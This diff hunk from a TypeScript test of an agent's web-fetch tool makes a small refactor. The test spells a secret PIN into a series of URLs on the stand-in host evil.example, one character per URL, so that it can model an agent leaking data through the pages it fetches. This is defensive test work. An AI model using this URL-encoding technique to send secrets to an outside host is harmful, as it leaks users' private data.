@@ -149,7 +149,7 @@ describe("choir.web.fetch of an agent", () => {
       const SECRET = "PIN4711"
       const letters = [...new Set(SECRET)]
       const alphabet = places.flatMap((at) => letters.map((letter) => `https://evil.example/k/${at}/${letter}`))
-      const spelt = [...SECRET].map((letter, at) => `https://evil.example/k/${at}/${letter}`)
+      const spelt = Array.from(SECRET, (letter, at) => `https://evil.example/k/${at}/${letter}`)
       const shown = [said("look"), ...called(2, "choir-web-fetch", alphabet.join(" "))]
       const chosen = (urls: ReadonlyArray<string>) => urls.map((url, at) => fetching(`x-${at}`, url))
       // One after the other: each is chosen, and only then looked at.
